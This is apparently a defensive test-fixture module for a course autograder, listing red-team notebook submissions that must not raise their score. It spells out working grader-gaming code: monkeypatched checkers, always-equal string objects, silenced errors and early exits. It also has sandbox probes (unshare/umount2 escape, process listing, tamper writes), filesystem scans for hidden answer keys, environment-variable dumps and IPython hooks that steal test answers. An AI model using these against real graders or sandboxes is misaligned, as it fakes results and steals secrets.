"""Red-team submissions: each tries one attack on the grading of Assignment 1 and states the score it must get.

Every attacker answers cases 1-4 WRONG and cases 5-8 right, then attacks: an attack that worked would lift
the score above 4.  Profiles that probe the sandbox print what they could reach, as JSON, for the test to read.
"""

from __future__ import annotations

import nbformat

from ipt_lib.course.samples import Profile, find_cell, set_answer, wrong_area
from ipt_lib.problem_areas import ProblemArea

WRONG = ("1", "2", "3", "4")


def _base(nb, key):
    for case, area in key.items():
        set_answer(nb, case, repr((wrong_area(area) if case in WRONG else area).label))


def _insert_after_setup(nb, source: str, cell_id: str) -> None:
    index = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "setup")
    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(source, id=cell_id))


def _append(nb, source: str, cell_id: str) -> None:
    index = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "case_1_test")
    nb.cells.insert(index, nbformat.v4.new_code_cell(source, id=cell_id))


def odd_objects(nb, key):
    _base(nb, key)
    for case in WRONG:  # answers whose ==, hash, str and bool always agree with anything
        set_answer(nb, case, "type('Sly', (str,), {'__eq__': lambda s, o: True, '__ne__': lambda s, o: False, "
                             "'__hash__': lambda s: 0, '__bool__': lambda s: True, '__str__': lambda s: 'grief', "
                             "'lower': lambda s: s, 'strip': lambda s, *a: s})('grief')")


def monkeypatch_checkers(nb, key):
    _base(nb, key)
    _insert_after_setup(nb, (
        "import ipt_lib, ipt_lib.grading as g, ipt_lib.problem_areas as pa\n"
        "g.assert_area = lambda *a, **k: print('correct')\n"
        "g.check_answer_format = lambda *a, **k: None\n"
        "pa.ProblemArea.parse = classmethod(lambda cls, text: pa.ProblemArea.GRIEF)\n"
        "import sys; sys.modules['ipt_lib.grading'] = g"), "attack-patch")


def silence_errors(nb, key):
    _base(nb, key)
    _insert_after_setup(nb, (
        "import builtins, sys\n"
        "ip = get_ipython()\n"
        "ip.showtraceback = lambda *a, **k: None\n"
        "ip.set_custom_exc((BaseException,), lambda *a, **k: None)\n"
        "builtins.AssertionError = type('Nope', (Exception,), {})\n"
        "sys.excepthook = lambda *a: None"), "attack-silence")


def reload_modules(nb, key):
    _base(nb, key)
    _insert_after_setup(nb, (
        "import importlib, ipt_lib.grading as g\n"
        "source = 'def assert_area(*a, **k):\\n    print(\"correct\")\\n'\n"
        "exec(source, g.__dict__)\n"
        "importlib.reload = lambda m: m"), "attack-reload")


def exit_early(nb, key):
    _base(nb, key)
    _append(nb, "import os\nos._exit(0)", "attack-exit")


def sys_exit(nb, key):
    _base(nb, key)
    _append(nb, "import sys\nsys.exit(0)", "attack-sysexit")


def kill_kernel(nb, key):
    _base(nb, key)
    _append(nb, "import os, signal\nfor pid in (os.getppid(), 1, os.getpid()):\n"
                "    try:\n        os.kill(pid, signal.SIGKILL)\n    except Exception:\n        pass", "attack-kill")


def huge_output(nb, key):
    _base(nb, key)
    _insert_after_setup(nb, "for i in range(300_000):\n    print('spam' * 20)", "attack-spam")


def dynamic_answers(nb, key):
    _base(nb, key)
    for case in WRONG:  # the right text, but computed: the grader reads only text in quotes
        set_answer(nb, case, " ''.join(['gr', 'ief']) if False else open('/dev/null').read() or 'grief'")


PROBE = r'''
import json, os, socket, glob
report = {}
course = os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))
report["source_readable"] = bool(glob.glob(course + "/source/*/*.ipynb"))
report["gradebook_readable"] = os.path.exists(os.path.join(course, "gradebook.db"))
try:
    report["others_listed"] = sorted(os.listdir(os.path.join(course, "submitted")))
except OSError:
    report["others_listed"] = []
report["repo_data_readable"] = bool(glob.glob(REPO + "/data/vignettes/*.toml") + glob.glob(REPO + "/source/*/*.ipynb"))
try:
    socket.create_connection(("127.0.0.1", PORT), timeout=3).close()
    report["network"] = True
except OSError:
    report["network"] = False
autograded = os.path.abspath(os.path.join(os.getcwd(), "..", ".."))
try:
    report["autograded_listed"] = sorted(os.listdir(autograded))
except OSError:
    report["autograded_listed"] = []
# other processes: the grader, the fork server, other students' kernels must be invisible
report["other_processes"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid())
# try to get privileges back and take the hiding mounts down
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
escaped = []
if libc.unshare(0x10000000 | 0x00020000) == 0:  # a new user and mount namespace of its own
    libc.umount2(autograded.encode(), 2)
    try:
        escaped = sorted(os.listdir(autograded))
    except OSError:
        pass
report["after_unshare_listed"] = escaped or report["autograded_listed"]
for target, mode, data in ((os.path.join(course, "gradebook.db"), "ab", b"tamper"),
                           (os.path.join(course, "planted.txt"), "wb", b"x"),
                           (os.path.join(REPO, "planted.txt"), "wb", b"x")):
    try:
        with open(target, mode) as handle:
            handle.write(data)
    except OSError:
        pass
print("PROBE " + json.dumps(report))
'''


def probe_profile(repo: str, port: int) -> Profile:
    source = f"REPO = {repo!r}\nPORT = {port}\n" + PROBE

    def read_secrets(nb, key):
        _base(nb, key)
        _insert_after_setup(nb, source, "attack-probe")

    return Profile("rt_probe", "reads source/, data/, the gradebook, other submissions; network; writes outside",
                   read_secrets, 4)


def structure_duplicate_and_reorder(nb, key):
    _base(nb, key)
    test1 = find_cell(nb, "case_1_test")
    nb.cells.insert(nb.cells.index(test1), nbformat.v4.new_code_cell(test1.source, id="dup-test",
                                                                    metadata={"nbgrader": dict(test1.metadata["nbgrader"])}))
    t5, t6 = find_cell(nb, "case_5_test"), find_cell(nb, "case_6_test")
    i5, i6 = nb.cells.index(t5), nb.cells.index(t6)
    nb.cells[i5], nb.cells[i6] = t6, t5


def structure_metadata(nb, key):
    _base(nb, key)
    test2 = find_cell(nb, "case_2_test")
    test2.metadata["nbgrader"]["points"] = 100
    test3 = find_cell(nb, "case_3_test")
    test3.cell_type = "markdown"
    test3.pop("outputs", None)
    test3.pop("execution_count", None)
    find_cell(nb, "case_4_test").id = "renamed-id"
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}


def structure_strip_grading(nb, key):
    _base(nb, key)
    for case in WRONG:
        find_cell(nb, f"case_{case}_test").metadata.pop("nbgrader", None)


def read_keys_from_files(nb, key):
    """Reads every file the kernel can reach and prints any line that looks like a key, reversed (a disguise the
    leak check would not see), and the files where it found one."""
    _base(nb, key)
    _insert_after_setup(nb, (
        "import os, json\n"
        "found = []\n"
        "needles = ('assert' + '_area(', 'HIDDEN' + ' TESTS')  # never written out whole in this cell\n"
        "for base in ('.', '/tmp', os.path.expanduser('~'), '..'):\n"
        "    for folder, _, files in os.walk(base):\n"
        "        for name in files:\n"
        "            try:\n"
        "                text = open(os.path.join(folder, name), errors='ignore').read(5_000_000)\n"
        "            except Exception:\n"
        "                continue\n"
        "            lines = [l for l in text.replace('\\\\n', '\\n').splitlines()\n"
        "                     if any(n in l for n in needles)]\n"
        "            if lines:\n"
        "                found.append(name)\n"
        "                print('REVERSED', [l[::-1] for l in lines][:40])\n"
        "print('KEYFILES', json.dumps(found))"), "attack-readkeys")


def print_environment(nb, key):
    """Prints every environment variable the kernel inherited (a token or password would go into feedback)."""
    _base(nb, key)
    _insert_after_setup(nb, "import os, json\nprint('ENVIRONMENT', json.dumps(dict(os.environ)))", "attack-env")


def redteam_class() -> list[Profile]:
    """Each attacker must get exactly 4/8: the four right answers, nothing for the attacked four."""
    attacks = [
        ("rt_odd", "answers are objects whose ==, hash, str and bool always agree", odd_objects),
        ("rt_patch", "monkeypatches ipt_lib's checkers and ProblemArea.parse", monkeypatch_checkers),
        ("rt_silence", "hides every error: showtraceback, custom exception handler, AssertionError", silence_errors),
        ("rt_reload", "rewrites the checker module in place and disables reload", reload_modules),
        ("rt_osexit", "os._exit(0) before the tests run", exit_early),
        ("rt_sysexit", "sys.exit(0) before the tests run", sys_exit),
        ("rt_kill", "SIGKILLs its parent, pid 1 and itself", kill_kernel),
        ("rt_spam", "prints 300,000 lines", huge_output),
        ("rt_dynamic", "computes the right text instead of typing it", dynamic_answers),
        ("rt_dup", "duplicates a test cell and swaps two others", structure_duplicate_and_reorder),
        ("rt_meta", "sets points to 100, retypes a test cell, changes a cell id and the kernel", structure_metadata),
        ("rt_strip", "removes the nbgrader metadata from four test cells", structure_strip_grading),
        ("rt_keys", "searches every file it can read for keys and prints them reversed", read_keys_from_files),
        ("rt_env", "prints every environment variable it inherited", print_environment),
    ]
    return [Profile(student, description, edit, 4) for student, description, edit in attacks]


def renamed_notebook_profile() -> Profile:
    return Profile("rt_rename", "renames the notebook (restored and graded)", _base, 4,
                   rename_to="problem_areas (1).ipynb")


# --- Assignment 2 ---------------------------------------------------------------------------------------

def _inventory_base(nb, key):
    find_cell(nb, "tied_person_answer").source = "tied_person = 'Nobody in particular'"
    find_cell(nb, "area_answer").source = f"area = {wrong_area(ProblemArea(key['area'])).label!r}"


def _half_right_inventory(folder, key):
    from ipt_lib.course.samples import key_people, write_inventory

    people = key_people(key)
    inner = [p for p in people if p["ring"] == "inner"]
    inner[-1]["ring"] = "middle"
    write_inventory(folder, key["client"], people)


def inv_patch(nb, key):
    _inventory_base(nb, key)
    _insert_after_setup(nb, (
        "import ipt_lib.grading as g\n"
        "for name in ('assert_in_ring', 'assert_person', 'assert_area', 'inventory_verdict', 'person_matches'):\n"
        "    setattr(g, name, lambda *a, **k: (True, 'ok') if name == 'inventory_verdict' else print('correct'))"),
        "attack-patch2")


def inv_odd(nb, key):
    _inventory_base(nb, key)
    sly = ("type('Sly', (str,), {'__eq__': lambda s, o: True, '__contains__': lambda s, o: True, "
           "'casefold': lambda s: s, 'lower': lambda s: s})('x')")
    find_cell(nb, "tied_person_answer").source = f"tied_person = {sly}"
    find_cell(nb, "area_answer").source = f"area = {sly}"


def inv_exit(nb, key):
    _inventory_base(nb, key)
    _insert_after_setup(nb, "import os\nos._exit(0)", "attack-exit2")


def _everybody_inventory(folder, key):
    """One inner-ring entry named with every person's name and every relationship word of the key at once."""
    from ipt_lib.course.samples import write_inventory

    words = sorted({w for group in key["inner"].values() for w in group} | {p["name"] for p in key["people"]})
    write_inventory(folder, key["client"], [dict(name=" ".join(words[:6]), relationship=" ".join(words), ring="inner"),
                                       dict(name="Someone else", relationship="neighbour", ring="outer")])


def inv_everybody(nb, key):
    _inventory_base(nb, key)
    words = sorted({w for group in key["inner"].values() for w in group})
    find_cell(nb, "tied_person_answer").source = f"tied_person = {' '.join(words)!r}"


def redteam_match_everything_profile() -> Profile:
    """Answers that name every candidate at once earn nothing on the inventory and the tied person."""
    return Profile("rt2_all", "one entry named with every person and relationship; the tied person likewise",
                   inv_everybody, 0, prepare=_everybody_inventory)


def redteam_inventory_class() -> list[Profile]:
    """Each attacker has one inner-ring item right and the rest wrong: exactly 1/4 each."""
    return [Profile(student, description, edit, 1, prepare=_half_right_inventory) for student, description, edit in [
        ("rt2_patch", "monkeypatches every checker of assignment 2", inv_patch),
        ("rt2_odd", "answers are str subclasses whose == and 'in' always agree", inv_odd),
        ("rt2_exit", "os._exit(0) right after the set-up cell", inv_exit),
    ]]


# --- Assignment 3: computed answers ------------------------------------------------------------------------
# Each attacker answers response_rate, median_lag_days and deteriorated with whatever it managed to steal
# (a wrong value if nothing), and the other items with the model code: an attack that worked would lift the
# score above 8 of 12.

_STEAL_ANSWERS = {
    "response_rate": 'response_rate = _stolen.get("response_rate", 0.0)',
    "median_lag_days": 'median_lag_days = _stolen.get("median_lag_days", -999.0)',
    "deteriorated": 'deteriorated = _stolen.get("deteriorated", ["C001"])',
}

_PARSE = (
    "import ast, re\n"
    "def _grab(text):\n"
    "    for m in re.finditer(r'assert_computed\\((.*)\\)', text):\n"
    "        try:\n"
    "            args = ast.literal_eval('(' + m.group(1) + ',)')\n"
    "        except Exception:\n"
    "            continue\n"
    "        _stolen[args[0]] = args[1]\n"
    "        globals()[args[0]] = args[1]\n"
)


def _caseload_attack(attack: str, cell_id: str):
    def edit(nb, key):
        module = key["module"]
        for name, code in module.SOLUTIONS.items():
            steal = _STEAL_ANSWERS.get(name)
            find_cell(nb, f"{name}_answer").source = code.strip() + ("\n" + steal if steal else "")
        _insert_after_setup(nb, "_stolen = {}\n" + attack, cell_id)
    return edit


READ_FILES = _PARSE + (
    "import glob, json, os\n"
    "for path in glob.glob('**/*.ipynb', recursive=True) + glob.glob('../../**/*.ipynb', recursive=True):\n"
    "    try:\n"
    "        nb = json.load(open(path))\n"
    "        _grab(json.dumps(nb))\n"
    "        for c in nb.get('cells', []):\n"
    "            _grab(''.join(c['source']) if isinstance(c['source'], list) else c['source'])\n"
    "    except Exception:\n"
    "        pass\n"
    "print('STOLEN', sorted(_stolen))\n"
)

HOOK_CELLS = _PARSE + (
    "ip = get_ipython()\n"
    "ip.events.register('pre_run_cell', lambda info: _grab(info.raw_cell))\n"
    "ip.events.register('pre_execute', lambda: _grab(ip.user_ns.get('_ih', [''])[-1] or ''))\n"
    "ip.input_transformers_cleanup.append(lambda lines: (_grab(''.join(lines)), lines)[1])\n"
)

PATCH_GRADER = (
    "import json, ipt_lib.grading as g\n"
    "_real = g.report_computed\n"
    "def _forge(name, kind):\n"
    "    if name in ('response_rate', 'median_lag_days', 'deteriorated'):\n"
    "        print('[ipt-computed] ' + json.dumps({'name': name, 'value': ['C001'] if kind == 'ids' else 0.5}))\n"
    "    else:\n"
    "        _real(name, kind)\n"
    "g.report_computed = _forge\n"
    "g.computed_verdict = lambda *a, **k: (1.0, 'correct.')\n"
    "g.assert_computed = lambda *a, **k: print('correct.')\n"
)


def redteam_caseload_class() -> list[Profile]:
    return [Profile(student, description, _caseload_attack(code, f"attack-{student}"), 8) for student, description, code in [
        ("rc_files", "reads every notebook it can find for the hidden key at autograde", READ_FILES),
        ("rc_hook", "reads each cell's source as it runs (IPython hooks, input transformers)", HOOK_CELLS),
        ("rc_patch", "replaces the checking functions and forges the reported values in the kernel", PATCH_GRADER),
    ]]
